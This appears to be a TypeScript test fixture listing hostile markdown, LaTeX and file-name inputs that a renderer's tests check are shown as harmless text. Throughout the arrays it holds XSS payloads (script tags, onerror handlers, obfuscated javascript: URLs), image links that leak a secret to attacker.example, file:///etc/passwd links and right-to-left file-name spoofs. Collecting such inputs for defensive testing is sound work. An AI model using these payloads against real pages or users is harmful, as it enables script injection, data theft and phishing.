// What a model, a file name or a title may try. Used by the mock (`?scenario=hostile`) and by the renderer's tests.

function table(columns: number): string {
  return ['a', '---', 'wide'].map((cell) => `| ${`${cell} | `.repeat(columns)}`).join('\n');
}

/** Each must come out as harmless text, wherever it is cut. */
export const HOSTILE_MARKDOWN: readonly string[] = [
  '<script>window.__pwned = true</script>',
  '<img src=x onerror="window.__pwned = true">',
  '<svg onload="window.__pwned = true"><a xlink:href="javascript:window.__pwned=true">x</a></svg>',
  '<iframe src="https://attacker.example/frame"></iframe>',
  '<style>body { display: none }</style>',
  '<div style="position:fixed;inset:0;background:red" id="root">cover</div>',
  '![leak](https://attacker.example/leak.png?q=secret)',
  '![leak][ref]\n\n[ref]: https://attacker.example/ref.png',
  '[click me](javascript:window.__pwned=true)',
  '[click me](JaVaScRiPt:window.__pwned=true)',
  '[click me](&#106;avascript:window.__pwned=true)',
  '[click me](java\nscript:window.__pwned=true)',
  '[data](data:text/html,<script>window.__pwned=true</script>)',
  '[share](smb://attacker.example/share)',
  '[file](file:///etc/passwd)',
  '[vbs](vbscript:msgbox)',
  '[your bank](https://attacker.example/%2e%2e/login)',
  '[https://bank.example](https://attacker.example/)',
  '<https://attacker.example/auto>',
  '<javascript:window.__pwned=true>',
  '[x](https://attacker.example "title\\" onmouseover=window.__pwned=true")',
  '[style]: javascript:window.__pwned=true "x"\n\n[style]',
  'invoice\u202Egnp.exe and \u2066isolated\u2069 text \u200F marks',
  '$\\href{javascript:window.__pwned=true}{x}$',
  '$\\includegraphics{https://attacker.example/m.png}$',
  '$\\htmlStyle{position:fixed}{x}\\htmlId{root}{y}$',
  '$\\def\\a{\\a\\a}\\a$',
  '$$\n\\unsafe{unclosed\n$$',
  '`<script>window.__pwned = true</script>`',
  '```html\n<script>window.__pwned = true</script>\n```',
  '~~~\nnever closed <script>window.__pwned = true</script>',
  table(44),
  `${'> '.repeat(40)}deep`,
  `${'*'.repeat(90)}stars${'*'.repeat(90)}`,
  'x'.repeat(300),
  '[1] [99] [0] [-1] [1](https://attacker.example/1)',
  '[^1]: footnote\n\nText[^1]',
  '- [ ] <input onfocus=window.__pwned=true autofocus>',
  '&lt;script&gt;window.__pwned=true&lt;/script&gt;',
  '<!-- comment --><![CDATA[x]]><?php x ?>',
  '# <b>heading</b> {#root .class}',
  '\\<script>window.__pwned=true\\</script>',
];

/** Shapes from above in a size that may stall a reader or break a layout. */
export const HOSTILE_LARGE: readonly string[] = [
  table(120),
  `${'> '.repeat(200)}deep`,
  `${'*'.repeat(400)}stars${'*'.repeat(400)}`,
  'x'.repeat(3000),
];

/** File names that try to mislead. */
export const HOSTILE_NAMES: readonly string[] = [
  'Invoice\u202Efdp.exe',
  '<img src=x onerror=window.__pwned=true>.pdf',
  `${'Very-long-name-'.repeat(20)}.pdf`,
  'Zürich – Überführung «ärztlich».docx',
  '合同 契約書 (最終版) 最新.pdf',
  'تقرير سنوي 2024.pdf',
  'a\nb\tc.txt',
];
